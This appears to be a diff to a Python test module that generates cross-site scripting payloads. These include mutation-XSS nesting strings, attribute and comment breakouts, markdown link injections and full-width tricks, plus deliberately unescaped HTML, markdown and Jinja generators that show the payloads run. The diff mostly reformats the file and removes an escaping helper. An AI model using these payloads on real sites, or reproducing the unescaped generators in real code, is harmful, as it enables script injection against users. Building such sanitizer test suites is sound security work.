@@ -1,4 +1,4 @@
-"""What an attacker writes into a text so that a reader's browser runs it: made from a small grammar, the same each time.
+"""What an attacker writes into a text so that a reader's browser runs it: made from a small grammar, always the same.
 
 Every payload calls `ran(number)` or `alert(number)`, so that a browser can tell that it ran, and which. Its `sort` is
 the careless generator that it is meant for; `careless` is that generator, by which the tests show that payloads live.
@@ -9,7 +9,6 @@ from __future__ import annotations
 from base64 import b64encode
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
-from html import escape
 from itertools import chain, cycle
 from urllib.parse import quote
 
@@ -125,7 +124,8 @@ MUTATIONS = (
     '<iframe><p title="</iframe><img src=x onerror={js}>">',
     '<svg><style><p title="</style><img src=x onerror={js}>">',
     "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'><img src=x onerror={js}>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>"
+    "<img src=x onerror={js}>",
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
     "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
     "<svg><desc><img src=x onerror={js}></desc></svg>",
@@ -151,7 +151,12 @@ MUTATIONS = (
 # What ends the place that a text is put in; the picture after it is run anywhere.
 _IMAGE = "<img src=x onerror={js}>"
 BREAKOUTS = {
-    "double": ('"' + ">" + _IMAGE, '" autofocus tabindex=0 onfocus="{js}', '"\nonmouseover="{js}" x="', '" onclick="{js}" x="'),
+    "double": (
+        '"' + ">" + _IMAGE,
+        '" autofocus tabindex=0 onfocus="{js}',
+        '"\nonmouseover="{js}" x="',
+        '" onclick="{js}" x="',
+    ),
     "single": ("'>" + _IMAGE, "' autofocus tabindex=0 onfocus='{js}", "'\tonclick='{js}' x='"),
     "bare": (">" + _IMAGE, "x autofocus tabindex=0 onfocus={js}", "x onclick={js} "),
     "comment": ("-->" + _IMAGE, "--!>" + _IMAGE, ">" + _IMAGE, "->" + _IMAGE),
@@ -208,7 +213,7 @@ MARKDOWN = (
     '![{mark}](x" onerror="{js})',
     '[{mark}](https://a.cn"onmouseover="{js})',
     "[{mark}](https://a.cn/><img/src=x/onerror={js}>)",
-    "<https://a.cn/?\"onmouseover=\"{js}>",
+    '<https://a.cn/?"onmouseover="{js}>',
     "<https://a.cn><img src=x onerror={js}>",
     "`` `<img src=x onerror={js}>` ``<img src=x onerror={js}>",
     "```\n</code></pre><img src=x onerror={js}>\n```\n\n<img src=x onerror={js}>",
@@ -260,7 +265,7 @@ DIRECTIONS = (
 FULL_WIDTH = ("＜img src=x onerror={js}＞<img src=x onerror={js}>", "‹img src=x onerror={js}›<img src=x onerror={js}>")
 """What a normalisation that comes after the escaping would make live."""
 
-_CONTEXTS = ("", "</p></div></main>", '"\'>', "--></title></style></script></textarea>", "]]>", "路灯 ")
+_CONTEXTS = ("", "</p></div></main>", "\"'>", "--></title></style></script></textarea>", "]]>", "路灯 ")
 """What stands before an element, to leave whatever it was put in."""
 
 
@@ -320,7 +325,7 @@ _CARELESS: dict[str, Callable[[str], str]] = {
     "cdata": lambda text: f"<svg><![CDATA[{text}]]></svg>",
     "address": lambda text: f'<p><a href="{text}">x</a></p>',
     "markdown": lambda text: markdown(text, extensions=["tables", "footnotes", "def_list", "attr_list", "md_in_html"]),
-    "template": lambda text: Environment(autoescape=False).from_string(text).render(),  # noqa: S701 - that is the point
+    "template": lambda text: Environment(autoescape=False).from_string(text).render(),
 }
 SORTS = tuple(_CARELESS)
 
@@ -328,8 +333,3 @@ SORTS = tuple(_CARELESS)
 def careless(payload: Payload) -> str:
     """A page's text as a generator makes it that believes whatever it is given."""
     return _CARELESS[payload.sort](payload.text)
-
-
-def quoted(text: str) -> str:
-    """A text as a page has to show it: as it was written, and nothing of it meant."""
-    return escape(text)
